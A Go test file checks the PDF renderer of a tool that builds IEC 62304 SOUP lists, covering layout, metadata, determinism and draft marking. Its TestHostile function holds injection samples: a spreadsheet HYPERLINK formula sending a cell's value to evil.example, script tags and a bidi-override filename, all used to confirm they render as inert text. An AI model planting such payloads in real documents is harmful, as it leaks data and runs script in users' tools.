package pdf_test

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/soupkit/soupkit/internal/golden"
	"github.com/soupkit/soupkit/render"
	"github.com/soupkit/soupkit/render/pdf"
	"github.com/soupkit/soupkit/render/rendertest"
	"github.com/soupkit/soupkit/soup"
)

func TestConformance(t *testing.T) {
	rendertest.RunText(t, pdf.Renderer{}, pdf.PDFText)
}

// squeeze removes the white space from s, to find text that wraps.
func squeeze(s string) string { return strings.Join(strings.Fields(s), "") }

func renderPDF(t testing.TB, r pdf.Renderer, l *soup.List, opts *render.Options) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := r.Render(&b, l, opts); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

var (
	mediaBoxRE = regexp.MustCompile(`/MediaBox \[ 0 0 ([\d.]+) ([\d.]+) \]`)
	countRE    = regexp.MustCompile(`/Type /Pages\s+/MediaBox[^/]*/Count (\d+)`)
)

// TestStructure checks the document's metadata and furniture: the
// information dictionary, a "Page N of M" footer and the footer's document
// reference on every page, the sections, and every item.
func TestStructure(t *testing.T) {
	l := rendertest.FullList()
	out := renderPDF(t, pdf.Renderer{}, l, &render.Options{Findings: rendertest.FullFindings()})
	info, pages, err := pdf.Read(out)
	if err != nil {
		t.Fatal(err)
	}
	for k, want := range map[string]string{
		"Title":        "SOUP List — Infusion pump backend 2.4.0",
		"Author":       "Jane Doe",
		"Subject":      "SOUP list (IEC 62304) of Infusion pump backend 2.4.0",
		"Creator":      "soupkit",
		"CreationDate": "D:20261124000000+00'00'",
	} {
		if info[k] != want {
			t.Errorf("info %s = %q, want %q", k, info[k], want)
		}
	}
	m := countRE.FindSubmatch(out)
	if m == nil || string(m[1]) != fmt.Sprint(len(pages)) {
		t.Errorf("page tree counts %q pages, read %d", m, len(pages))
	}
	for i, p := range pages {
		if want := fmt.Sprintf("Page %d of %d", i+1, len(pages)); !strings.Contains(p, want) {
			t.Errorf("page %d lacks %q", i+1, want)
		}
		if !strings.Contains(p, "SOUP-LIST-001 · Revision 7 · 2026-11-24") {
			t.Errorf("page %d lacks the document reference in its footer", i+1)
		}
	}
	text := strings.Join(pages, "\n")
	squeezed := squeeze(text) // cells wrap
	for _, want := range []string{
		"Document Control", "Approval", "Signature", "Evidence of Origin", "Summary", "Risk Levels",
		"SOUP Items", "Removed Items", "Findings", "FINDING05", "suppressed",
		"urn:uuid:3e671687-395b-41f5-a30f-a58921a69b79", "Malfunction can lead to irreversible harm.",
	} {
		if !strings.Contains(squeezed, squeeze(want)) {
			t.Errorf("the document lacks %q", want)
		}
	}
	for _, it := range l.Items {
		if !strings.Contains(text, it.Name) || !strings.Contains(text, it.Version) {
			t.Errorf("item %s %s is missing", it.Name, it.Version)
		}
	}
}

// TestTableHeadingOnEveryPage renders a long table and finds its heading
// row on every page that holds items, and every item.
func TestTableHeadingOnEveryPage(t *testing.T) {
	cols, err := render.Preset("template")
	if err != nil {
		t.Fatal(err)
	}
	const n = 400
	l := rendertest.LargeList(n)
	_, pages, err := pdf.Read(renderPDF(t, pdf.Renderer{}, l, &render.Options{Columns: cols}))
	if err != nil {
		t.Fatal(err)
	}
	itemPages := 0
	for i, p := range pages {
		if !strings.Contains(p, "item-") {
			continue
		}
		itemPages++
		for _, h := range []string{"Package", "Verification Reasoning"} { // headings wrap
			if !strings.Contains(p, h) {
				t.Errorf("page %d holds items but not the heading %q", i+1, h)
			}
		}
	}
	if itemPages < 10 {
		t.Errorf("items on %d pages; want a table over many pages", itemPages)
	}
	text := strings.Join(pages, "\n")
	for _, it := range l.Items {
		if !strings.Contains(text, it.Name+"\n") || !strings.Contains(text, it.Version+"\n") {
			t.Errorf("item %s %s is missing", it.Name, it.Version)
		}
	}
}

// TestPageSizes checks the paper size and orientation options.
func TestPageSizes(t *testing.T) {
	minimal, err := render.Preset("minimal")
	if err != nil {
		t.Fatal(err)
	}
	template, err := render.Preset("template")
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		r    pdf.Renderer
		cols []render.Column
		w, h string
	}{
		{pdf.Renderer{}, minimal, "595.28", "841.89"},
		{pdf.Renderer{}, template, "841.89", "595.28"}, // wide: landscape
		{pdf.Renderer{}, nil, "595.28", "841.89"},      // full: a record per item
		{pdf.Renderer{PageSize: pdf.Letter}, minimal, "612.00", "792.00"},
		{pdf.Renderer{PageSize: pdf.Letter, Orientation: pdf.Landscape}, minimal, "792.00", "612.00"},
		{pdf.Renderer{PageSize: pdf.A4, Orientation: pdf.Portrait}, template, "595.28", "841.89"},
		{pdf.Renderer{Orientation: pdf.Auto}, template, "841.89", "595.28"},
	} {
		out := renderPDF(t, tc.r, rendertest.FullList(), &render.Options{Columns: tc.cols})
		m := mediaBoxRE.FindSubmatch(out)
		if m == nil || string(m[1]) != tc.w || string(m[2]) != tc.h {
			t.Errorf("%+v with %d columns: media box %q, want %s × %s", tc.r, len(tc.cols), m, tc.w, tc.h)
		}
	}
}

func TestInvalidOptions(t *testing.T) {
	for _, r := range []pdf.Renderer{{PageSize: 9}, {Orientation: -1}} {
		var b bytes.Buffer
		err := r.Render(&b, rendertest.FullList(), nil)
		if err == nil || !strings.HasPrefix(err.Error(), "pdf: invalid") {
			t.Errorf("%+v: error %v, want pdf: invalid …", r, err)
		}
		if b.Len() > 0 {
			t.Errorf("%+v: wrote %d bytes on error", r, b.Len())
		}
	}
	var b bytes.Buffer
	if err := (pdf.Renderer{}).Render(&b, nil, nil); !errors.Is(err, render.ErrNilList) {
		t.Errorf("nil list: error %v, want render.ErrNilList", err)
	}
}

// TestHostile checks that hostile text is drawn as text: characters the
// fonts lack become U+FFFD, the others survive.
func TestHostile(t *testing.T) {
	cols, err := render.ParseColumns("id,name,version")
	if err != nil {
		t.Fatal(err)
	}
	out := renderPDF(t, pdf.Renderer{}, rendertest.HostileList(), &render.Options{Columns: cols, Findings: rendertest.HostileFindings()})
	info, pages, err := pdf.Read(out)
	if err != nil {
		t.Fatal(err)
	}
	text := strings.Join(pages, "\n")
	for _, want := range []string{
		"HOSTILE23 ünïcödé ß \uFFFD\uFFFD \uFFFD ﬁ", // no Chinese or emoji in the Go fonts
		`=HYPERLINK("http://evil.example/?x="&A1,"HOSTILE06")`,
		"<script>alert('HOSTILE04')</script>",
		"HOSTILE17 \uFFFDgnp.exe bidi override",
		"HOSTILE16 \uFFFD nul",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("the document lacks %q", want)
		}
	}
	if got, want := info["Title"], "# Title <script>alert(1)</script> | =SUM(A1)"; got != want {
		t.Errorf("title %q, want %q", got, want)
	}
}

// TestDeterministic renders twice and compares the bytes; the creation
// date follows Options.Date.
func TestDeterministic(t *testing.T) {
	opts := func() *render.Options { return &render.Options{Findings: rendertest.FullFindings()} }
	a := renderPDF(t, pdf.Renderer{}, rendertest.FullList(), opts())
	b := renderPDF(t, pdf.Renderer{}, rendertest.FullList(), opts())
	if !bytes.Equal(a, b) {
		t.Fatal("two renderings differ")
	}
	o := opts()
	o.Date = soup.NewDate(2030, 1, 2)
	info, _, err := pdf.Read(renderPDF(t, pdf.Renderer{}, rendertest.FullList(), o))
	if err != nil {
		t.Fatal(err)
	}
	if got := info["CreationDate"]; got != "D:20300102000000+00'00'" {
		t.Errorf("creation date %q with Options.Date 2030-01-02", got)
	}
	l := rendertest.FullList()
	l.Document.Date = soup.Date{}
	info, _, err = pdf.Read(renderPDF(t, pdf.Renderer{}, l, nil))
	if err != nil {
		t.Fatal(err)
	}
	if got, ok := info["CreationDate"]; ok {
		t.Errorf("creation date %q for a list without a date; want none", got)
	}
}

// TestPdftotext extracts the text with poppler's pdftotext, when it is
// installed, and finds every item's name and version.
func TestPdftotext(t *testing.T) {
	tool, err := exec.LookPath("pdftotext")
	if err != nil {
		t.Skip("pdftotext (poppler-utils) is not installed")
	}
	for _, preset := range []string{"full", "minimal", "template"} {
		cols, err := render.Preset(preset)
		if err != nil {
			t.Fatal(err)
		}
		l := rendertest.LargeList(200)
		l.Items = append(l.Items, rendertest.FullList().Items...)
		in := filepath.Join(t.TempDir(), "soup.pdf")
		if err := os.WriteFile(in, renderPDF(t, pdf.Renderer{}, l, &render.Options{Columns: cols}), 0o644); err != nil {
			t.Fatal(err)
		}
		out, err := exec.Command(tool, "-enc", "UTF-8", in, "-").Output()
		if err != nil {
			t.Fatalf("pdftotext: %v", err)
		}
		// A name wraps in a narrow column: compare without white space.
		text := squeeze(string(out))
		for _, it := range l.Items {
			if !strings.Contains(text, squeeze(it.Name)) || !strings.Contains(text, it.Version) {
				t.Errorf("%s: pdftotext does not find item %s %s", preset, it.Name, it.Version)
			}
		}
	}
}

// BenchmarkLarge renders 5,000 items with the default (full) columns and
// with the template preset's table.
func BenchmarkLarge(b *testing.B) {
	template, err := render.Preset("template")
	if err != nil {
		b.Fatal(err)
	}
	for _, bc := range []struct {
		name string
		cols []render.Column
	}{{"full", nil}, {"template", template}} {
		b.Run(bc.name, func(b *testing.B) {
			l := rendertest.LargeList(5000)
			opts := &render.Options{Columns: bc.cols}
			var size int
			b.ReportAllocs()
			for b.Loop() {
				var buf bytes.Buffer
				if err := (pdf.Renderer{}).Render(&buf, l, opts); err != nil {
					b.Fatal(err)
				}
				size = buf.Len()
			}
			b.ReportMetric(float64(size)/1e6, "MB")
		})
	}
}

// TestConcurrent renders from several goroutines at once, as a server
// would: the embedded fonts are shared, and the outputs are the same.
func TestConcurrent(t *testing.T) {
	want := renderPDF(t, pdf.Renderer{}, rendertest.FullList(), nil)
	errs := make(chan error, 4)
	for range 4 {
		go func() {
			var b bytes.Buffer
			err := (pdf.Renderer{}).Render(&b, rendertest.FullList(), nil)
			if err == nil && !bytes.Equal(b.Bytes(), want) {
				err = errors.New("a concurrent rendering differs")
			}
			errs <- err
		}()
	}
	for range 4 {
		if err := <-errs; err != nil {
			t.Error(err)
		}
	}
}

// TestGolden compares the text of each page of the bundled example, as
// laid out, with the golden file (go test -update rewrites it).
func TestGolden(t *testing.T) {
	cols, err := render.Preset("template")
	if err != nil {
		t.Fatal(err)
	}
	for name, opts := range map[string]*render.Options{
		"full":     {Findings: rendertest.FullFindings()},
		"template": {Columns: cols, Findings: rendertest.FullFindings()},
	} {
		_, pages, err := pdf.Read(renderPDF(t, pdf.Renderer{}, rendertest.FullList(), opts))
		if err != nil {
			t.Fatal(err)
		}
		var b strings.Builder
		for i, p := range pages {
			fmt.Fprintf(&b, "--- page %d ---\n%s", i+1, p)
		}
		golden.Check(t, "testdata/"+name+".golden", []byte(b.String()))
	}
}

// TestDraftOnEveryPage: a list with open errors is marked DRAFT at the top
// of every page, in every preset, and a required field that is empty says
// NOT DOCUMENTED, also in the full preset's records layout, which leaves
// out the other empty fields. Read with this package's reader and, when
// installed, with pdftotext.
func TestDraftOnEveryPage(t *testing.T) {
	l := rendertest.LargeList(60)
	l.Items = append(l.Items, rendertest.FullList().Items...)
	l.Items = append(l.Items, soup.Item{ID: "SOUP-0999", Name: "bare", Version: "1.0.0", RiskLevel: soup.RiskHigh})
	tool, _ := exec.LookPath("pdftotext")
	for _, preset := range render.Presets() {
		cols, err := render.Preset(preset)
		if err != nil {
			t.Fatal(err)
		}
		b := renderPDF(t, pdf.Renderer{}, l, &render.Options{Columns: cols})
		_, pages, err := pdf.Read(b)
		if err != nil {
			t.Fatal(err)
		}
		if len(pages) < 3 {
			t.Errorf("%s: %d pages, want several", preset, len(pages))
		}
		for i, p := range pages {
			if !strings.Contains(p, "DRAFT — not ready for approval") {
				t.Errorf("%s: page %d is not marked DRAFT", preset, i+1)
			}
		}
		text := strings.Join(pages, "\n")
		if preset != "minimal" && !strings.Contains(text, render.NotDocumented) {
			t.Errorf("%s: no %s", preset, render.NotDocumented)
		}
		if tool == "" {
			continue
		}
		in := filepath.Join(t.TempDir(), "soup.pdf")
		if err := os.WriteFile(in, b, 0o644); err != nil {
			t.Fatal(err)
		}
		out, err := exec.Command(tool, "-enc", "UTF-8", in, "-").Output()
		if err != nil {
			t.Fatalf("pdftotext: %v", err)
		}
		ppages := strings.Split(strings.TrimSuffix(string(out), "\f"), "\f")
		if len(ppages) != len(pages) {
			t.Errorf("%s: pdftotext reads %d pages, want %d", preset, len(ppages), len(pages))
		}
		for i, p := range ppages {
			if !strings.Contains(p, "DRAFT") {
				t.Errorf("%s: pdftotext: page %d is not marked DRAFT", preset, i+1)
			}
		}
		if preset != "minimal" && !strings.Contains(string(out), render.NotDocumented) {
			t.Errorf("%s: pdftotext finds no %s", preset, render.NotDocumented)
		}
	}
	// Without an open error, no page says DRAFT.
	ok := &soup.List{System: soup.System{Name: "viewer", SafetyClass: soup.ClassA}, RiskLevels: soup.RiskLevels{Low: "No harm."},
		Items: []soup.Item{{ID: "SOUP-0001", Name: "lib", Version: "1.0.0", Manufacturer: "Upstream", RiskLevel: soup.RiskLow}}}
	_, pages, err := pdf.Read(renderPDF(t, pdf.Renderer{}, ok, nil))
	if err != nil {
		t.Fatal(err)
	}
	for i, p := range pages {
		if strings.Contains(p, "DRAFT") || !strings.Contains(strings.Join(pages, ""), "Ready for approval") {
			t.Errorf("page %d of a list without open errors: %q", i+1, p[:min(len(p), 200)])
		}
	}
}
